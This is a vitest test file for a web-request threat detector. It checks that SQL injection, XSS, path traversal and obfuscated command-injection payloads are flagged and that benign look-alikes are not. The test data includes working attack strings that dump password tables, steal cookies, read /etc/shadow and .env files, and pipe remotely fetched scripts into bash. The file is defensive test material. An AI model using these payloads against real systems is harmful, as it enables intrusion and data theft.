import { describe, expect, it } from 'vitest';
import { analyzeRawValue, analyzeRequest } from '.';
import { detectCmdi } from './cmdi';
import { decodeValue } from './decode';
import { shellCommands } from './shell-tokens';
import { detectTraversal } from './traversal';
import { detectSqli } from './sqli';
import { tokenizeSql } from './sql-tokens';

const classes = (raw: string): string[] => analyzeRawValue(raw).map((f) => f.threatType).sort();

describe('SQL injection grammar', () => {
  it.each([
    "1' OR '1'='1",
    "admin'--",
    '1 UNION ALL SELECT username,password FROM users',
    "1'; DROP TABLE users--",
    '-3937)) or 3038=3038',
    '1 and sleep(5)',
    "x' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -",
    '1 where 7=7 and 8=(select count(*) from t)',
    '1")) or elt(5873=5873,sleep(5))#',
    "1' waitfor delay '0:0:5'--",
    '1/**/union/**/select/**/1,2',
    'elt(2567=9921,9921)',
  ])('flags %s', (payload) => {
    expect(classes(payload)).toContain('sql_injection');
  });

  it.each([
    "O'Brien", "d'Artagnan's sword", 'select a plan', 'Select one from the list below', '1-2', 'a.b@example.com',
    '$19.99', 'rock and roll', "it's 5 o'clock", 'c/ ca n\'alzina, 80, 6-b', '(illes) balears', 'order 66 shipped',
    'Tom & Jerry', 'where are you', '1,2,3', '2024-01-15', 'price < 100 or > 200',
  ])('leaves %s alone', (benign) => {
    expect(classes(benign)).not.toContain('sql_injection');
  });

  it('reads the value in the quoting context that breaks out', () => {
    expect(tokenizeSql("1' or 'a'='a", "'").map((t) => t.type).join('')).toBe('s&sos');
    expect(detectSqli("1' or 'a'='a")?.context).toBe('single-quoted');
    expect(detectSqli('1" or "a"="a')?.context).toBe('double-quoted');
  });
});

describe('XSS by HTML and JavaScript context', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '" onmouseover="alert(1)',
    '<svg/onload=alert(1)>',
    '<div style="width: expression(alert(1))">',
    '";alert(document.cookie);//',
    '</title><script>alert(1)</script>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD4=">',
  ])('flags %s', (payload) => {
    expect(classes(payload)).toContain('xss');
  });

  it.each(['I <3 you', 'a < b > c', 'x onerror', 'see javascript tutorials', 'height=180cm', 'Fish & Chips'])('leaves %s alone', (benign) => {
    expect(classes(benign)).not.toContain('xss');
  });
});

describe('path traversal', () => {
  it.each([
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '%252e%252e%252fetc%252fpasswd',
    '..\\..\\windows\\win.ini',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow',
    '....//....//etc/passwd',
    '/etc/passwd',
    'file:///etc/hosts',
  ])('flags %s', (payload) => {
    expect(classes(payload)).toContain('path_traversal');
  });

  it.each(['images/logo.png', '/docs/v1.2/index.html', 'etc.', 'Wait... what?', 'https://example.com/a/b', 'c/ caridad s/n'])('leaves %s alone', (benign) => {
    expect(classes(benign)).not.toContain('path_traversal');
  });

  it.each([
    ['%c1%9c..%c1%9c..%c1%9cboot.ini', 'overlong 2-byte backslash'],
    ['%e0%80%ae%e0%80%ae%c0%afetc%c0%afgroup', 'overlong 3-byte dot'],
    ['%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215hosts', 'full-width dots and division slash'],
    ['\\x2e\\x2e\\x2fsecret\\x2fkeys', 'C-style hex escapes'],
    ['%255c..%255c..%255capp.config', 'double-encoded backslashes'],
    ['..;/..;/admin/console', 'Tomcat path parameters on ..'],
    ['.. ./.. ./data/report.xls', 'Windows trims trailing dots and spaces'],
    ['/srv/app/uploads/../../../root/.profile', 'climbs above the root'],
    ['/./var/log/auth.log', 'non-canonical absolute path into a system location'],
    ['/./', 'self-reference segment in an absolute path'],
    ['d:config.sys', 'drive-relative path to a system file'],
    ['\\\\?\\c:\\data\\x.txt', 'Win32 device namespace'],
  ])('flags %s (%s)', (payload) => {
    expect(classes(payload)).toContain('path_traversal');
  });

  it.each(['C:\\Users\\ana\\Desktop\\notes.docx', './assets/app.css', '//cdn.example.net/lib/app.js', 'http://example.com/a//b', 'v2.1...v2.3', 'd:n', 'Ana: see p. 4/5'])('leaves %s alone', (benign) => {
    expect(classes(benign)).not.toContain('path_traversal');
  });

  it('measures how far the path climbs', () => {
    expect(detectTraversal('a/b/../../../x')?.confidence).toBe(0.95);
    expect(detectTraversal('../x')?.confidence).toBe(0.8);
  });
});

describe('command injection by shell grammar', () => {
  it.each([
    '127.0.0.1; cat /etc/passwd',
    'x | id',
    '`whoami`',
    '$(curl http://203.0.113.1/x.sh)',
    '; /bin/sleep 10 ;',
    'a && ping -c 10 127.0.0.1',
    '/usr/bin/id',
    "<!--#exec cmd=\"/bin/ls\"-->",
  ])('flags %s', (payload) => {
    expect(classes(payload)).toContain('command_injection');
  });

  it.each(['cat lover', 'ping pong club', 'Smith & Sons', 'id card 12345', 'who am i', 'sleep well; eat well', 'c/ ls 4'])('leaves %s alone', (benign) => {
    expect(classes(benign)).not.toContain('command_injection');
  });

  it.each([
    ['q=1;h\'e\'ad -n 3 /srv/app/.env', 'single quotes inside the command name'],
    ['x|t\\ail -5 /var/log/syslog', 'backslash inside the command name'],
    ['|u"n"a"m"e', 'double quotes inside the command name'],
    [';un$@ame -a', 'empty $@ inside the command name'],
    ['a&&who^ami', 'cmd.exe caret escapes'],
    ['x;ls${IFS}-la${IFS}/home', '${IFS} instead of spaces'],
    ['x;uname$IFS-a', '$IFS instead of spaces'],
    ['{ls,-la,/opt}', 'brace expansion'],
    ["x;$'\\x75\\x6e\\x61\\x6d\\x65' -a", 'ANSI-C quoted name'],
    ['1;/???/?s -la', 'globbed binary path'],
    ['x;head</srv/app/config.yml', 'redirection as the argument'],
    ['n=1\nuname -a', 'newline separator'],
    ["abc' ; hostname ; echo '", 'breaks out of a single-quoted argument'],
    ['abc" | tail -3 /var/log/app.log #', 'breaks out of a double-quoted argument'],
    ['"$(hostname)"', 'substitution inside double quotes'],
    ['x >(uname -a)', 'process substitution'],
    ['C:\\Windows\\System32\\whoami.exe', 'Windows binary path'],
    [';echo vgl7781', 'any utility right after a leading operator'],
    ['198.51.100.7 && echo vgl7781', 'any utility after the legitimate value and an operator'],
    ['x|nslookup probe.example.net', 'host name as the argument'],
    ['$(echo vgl7781)', 'any utility in a substitution'],
    ['curl -s http://198.51.100.7/a | bash', 'piped into an interpreter'],
  ])('flags %s (%s)', (payload) => {
    expect(classes(payload)).toContain('command_injection');
  });

  it.each(["rock'n'roll", "l'idea", 'what is 5 > 3?', 'sleep 8 hours', 'find /', 'more than 5 > less than 3', '"ls"', "it's true",
    'A|B testing', 'help|about', 'Ping & Pong', '(ls)', 'time && space', 'cmd+shift+p', '{a,b}', 'see $5 off; cheap', 'Tom; echo',
    'a | more', 'done; id please', 'R&D; echo', 'Rock; echo chamber'])('leaves %s alone', (benign) => {
    expect(detectCmdi(benign)).toBeNull();
  });

  it('tokenizes like a shell', () => {
    const [first, second] = shellCommands("c'a't${IFS}/etc/hosts 2>&1;ls");
    expect(first.words.map((w) => w.text)).toEqual(['cat', '/etc/hosts']);
    expect(first.words[0].obfuscated).toBe(true);
    expect(first.ifs).toBe(true);
    expect(first.redirects).toEqual([{ target: '1', fd: true }]);
    expect(second).toMatchObject({ separator: ';', words: [{ text: 'ls', obfuscated: false }] });
    expect(shellCommands("say 'quoted text' it's").flatMap((c) => c.words.map((w) => w.text))).toEqual(['say', 'quoted text', "it's"]);
    expect(shellCommands("x' ; id", "'").map((c) => c.words.map((w) => w.text))).toEqual([['x'], ['id']]);
  });
});

describe('request analysis', () => {
  it('decodes repeatedly and judges each parameter on its own', () => {
    expect(decodeValue('%2527%2520OR%25201%253D1')).toBe("' OR 1=1");
    expect(decodeValue('%c0%ae%e0%80%ae%f0%80%80%af%c1%9c%c0%bc')).toBe('../\\<');
    expect(decodeValue('caf%c3%a9')).toBe('café');
    const findings = analyzeRequest({ path: '/search', query: 'q=shoes&id=1%27%20or%20%271%27%3D%271' });
    expect(findings.map((f) => [f.threatType, f.location])).toEqual([['sql_injection', 'query[1]']]);
  });

  it('finds nothing in an ordinary shop request', () => {
    expect(analyzeRequest({ path: '/shop/select-a-plan', query: "name=O%27Brien&price=%2419.99&email=a.b%40example.com&range=1-2", userAgent: 'Mozilla/5.0 (X11; Linux x86_64)' })).toEqual([]);
  });
});
